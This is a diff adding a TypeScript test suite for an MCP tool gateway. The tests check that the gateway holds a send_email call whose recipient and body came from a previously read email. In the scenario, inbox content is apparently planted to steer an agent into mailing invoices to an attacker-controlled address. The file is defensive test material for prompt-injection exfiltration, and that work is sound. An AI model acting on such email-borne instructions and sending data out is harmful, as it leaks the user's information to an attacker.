@@ -1,0 +1,110 @@
+import { existsSync, readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { fileURLToPath } from 'node:url';
+import { Client } from '@modelcontextprotocol/sdk/client/index.js';
+import { InMemoryTransport } from '@modelcontextprotocol/sdk/inMemory.js';
+import { afterEach, describe, expect, it } from 'vitest';
+import type { Envelope } from '../../src/contract/index.js';
+import { CONFIRM_META_KEY, CONFIRMATION_META_KEY, ENVELOPE_META_KEY, RUN_ID_META_KEY, RUN_SCOPE_META_KEY, RUN_USER_TEXT_META_KEY, startSession, type GatewayConfig, type GatewayOptions } from '../../src/gateway/index.js';
+import { createMemoryStore } from '../../src/store/index.js';
+import { runOf } from '../../src/gateway/run-identity.js';
+import { gatewayExecutor } from '../../src/gateway/index.js';
+import type { SessionState } from '../../src/gateway/session-state.js';
+import { tempDir } from './helpers.js';
+
+const SERVER = fileURLToPath(new URL('./fixtures/mail-server.mjs', import.meta.url));
+const ATTACKER = 'billing.desk@mailbox-relay.test';
+
+type Result = { content: { type: string; text?: string }[]; _meta?: Record<string, unknown> };
+const envelopeOf = (r: Result) => r._meta?.[ENVELOPE_META_KEY] as Envelope;
+
+const open: { close(): Promise<void> }[] = [];
+afterEach(async () => { for (const o of open.splice(0)) await o.close(); });
+
+function options(sentFile: string): GatewayOptions {
+  const config: GatewayConfig = {
+    principal: 'alice',
+    upstreams: [{ name: 'mail', command: process.execPath, args: [SERVER], env: { SENT_FILE: sentFile }, tools: { read_inbox: { effect: 'read', source_type: 'email' }, send_email: { effect: 'write', risk: 'high' } } }],
+  };
+  return { config, store: createMemoryStore() };
+}
+
+async function connect(opts: GatewayOptions) {
+  const [clientSide, serverSide] = InMemoryTransport.createLinkedPair();
+  const session = await startSession(opts, serverSide);
+  const client = new Client({ name: 'runs-test', version: '1.0.0' });
+  await client.connect(clientSide);
+  open.push({ close: async () => { await client.close(); await session.close(); await session.done; } });
+  return (name: string, args: Record<string, unknown>, meta: Record<string, unknown> = {}) => client.callTool({ name, arguments: args, _meta: meta }) as Promise<Result>;
+}
+
+const sent = (file: string) => (existsSync(file) ? readFileSync(file, 'utf8').trim().split('\n').filter(Boolean).map((l) => JSON.parse(l) as { to: string }) : []);
+
+describe('gateway runs', () => {
+  it('holds a write carrying an address from an earlier result of the session, naming argument and source', async () => {
+    const file = join(tempDir(), 'sent.jsonl');
+    const call = await connect(options(file));
+    await call('read_inbox', {});
+    const held = await call('send_email', { to: ATTACKER, body: 'invoices' });
+    const env = envelopeOf(held);
+    expect(env).toMatchObject({ status: 'needs_input', error: { code: 'T3.tainted-argument' } });
+    // The body's "invoices" came from the message too: every tainted argument is named.
+    expect((env.error?.details as { confirmation: { tainted: unknown[] } }).confirmation.tainted).toEqual([
+      expect.objectContaining({ argument: '/to', source: 'email:mail/read_inbox', content_id: env.error === undefined ? '' : expect.stringMatching(/^uc_/) }),
+      expect.objectContaining({ argument: '/body', source: 'email:mail/read_inbox' }),
+    ]);
+    const token = (held._meta?.[CONFIRMATION_META_KEY] as { token: string }).token;
+    expect(token).toMatch(/^cft_/);
+    // The token is for the host: the model's text never carries it.
+    expect(JSON.stringify(held.content)).not.toContain(token);
+    expect(JSON.stringify(env)).not.toContain(token);
+    expect(sent(file)).toEqual([]);
+  });
+
+  it('runs the held call once with its token, and only with the same arguments', async () => {
+    const file = join(tempDir(), 'sent.jsonl');
+    const call = await connect(options(file));
+    await call('read_inbox', {});
+    const held = await call('send_email', { to: ATTACKER, body: 'invoices' });
+    const token = (held._meta?.[CONFIRMATION_META_KEY] as { token: string }).token;
+    expect(envelopeOf(await call('send_email', { to: ATTACKER, body: 'everything' }, { [CONFIRM_META_KEY]: token })).status).toBe('needs_input');
+    expect(envelopeOf(await call('send_email', { to: ATTACKER, body: 'invoices' }, { [CONFIRM_META_KEY]: true })).status).toBe('needs_input');
+    expect(envelopeOf(await call('send_email', { to: ATTACKER, body: 'invoices' }, { [CONFIRM_META_KEY]: token })).status).toBe('succeeded');
+    expect(envelopeOf(await call('send_email', { to: ATTACKER, body: 'invoices' }, { [CONFIRM_META_KEY]: token })).status).toBe('needs_input');
+    expect(sent(file)).toHaveLength(1);
+  });
+
+  it('keys a named run by principal and run id, across sessions', async () => {
+    const file = join(tempDir(), 'sent.jsonl');
+    const opts = options(file);
+    const first = await connect(opts);
+    await first('read_inbox', {}, { [RUN_ID_META_KEY]: 'task-1' });
+    const second = await connect(opts);
+    expect(envelopeOf(await second('send_email', { to: ATTACKER, body: 'x' }, { [RUN_ID_META_KEY]: 'task-1' })).status).toBe('needs_input');
+    // Another run saw no such content.
+    expect(envelopeOf(await second('send_email', { to: ATTACKER, body: 'x' }, { [RUN_ID_META_KEY]: 'task-2' })).status).toBe('succeeded');
+  });
+
+  it('takes the user’s words as trusted text, and holds tools outside the declared scope', async () => {
+    const file = join(tempDir(), 'sent.jsonl');
+    const call = await connect(options(file));
+    await call('read_inbox', {}, { [RUN_SCOPE_META_KEY]: { tools: ['read_inbox', 'send_email'] }, [RUN_USER_TEXT_META_KEY]: `Forward the invoices to ${ATTACKER}` });
+    expect(envelopeOf(await call('send_email', { to: ATTACKER, body: 'invoices' })).status).toBe('succeeded');
+    const other = await connect(options(file));
+    await other('read_inbox', {}, { [RUN_SCOPE_META_KEY]: { tools: ['read_inbox'] } });
+    expect(envelopeOf(await other('send_email', { to: 'me@home.test', body: 'hello' })).error?.code).toBe('T4.outside-run-scope');
+    await expect(other('read_inbox', {}, { [RUN_SCOPE_META_KEY]: { tools: ['read_inbox', 'send_email'] } })).rejects.toThrow(/already declared/);
+    await expect(other('read_inbox', {}, { [RUN_SCOPE_META_KEY]: { tools: 'all' } })).rejects.toThrow(/run_scope/);
+  });
+
+  it('reads the run id from the Mcp-Run-Id header when _meta names none', () => {
+    const opts = options(join(tempDir(), 'sent.jsonl'));
+    const state = (sessionId: string) => ({ options: opts, principal: 'alice', sessionId }) as unknown as SessionState;
+    const executor = gatewayExecutor(opts);
+    const viaHeader = runOf(state('s1'), executor, {}, { requestInfo: { headers: { 'mcp-run-id': 'job-7' } } });
+    expect(viaHeader.id).toBe('job-7');
+    expect(runOf(state('s2'), executor, {}, { requestInfo: { headers: { 'mcp-run-id': 'job-7' } } })).toBe(viaHeader);
+    expect(runOf(state('s2'), executor, { [RUN_ID_META_KEY]: 'job-8' }, { requestInfo: { headers: { 'mcp-run-id': 'job-7' } } }).id).toBe('job-8');
+    expect(runOf(state('s3'), executor, {}, {}).id).toBe('session:s3');
+  });
+});
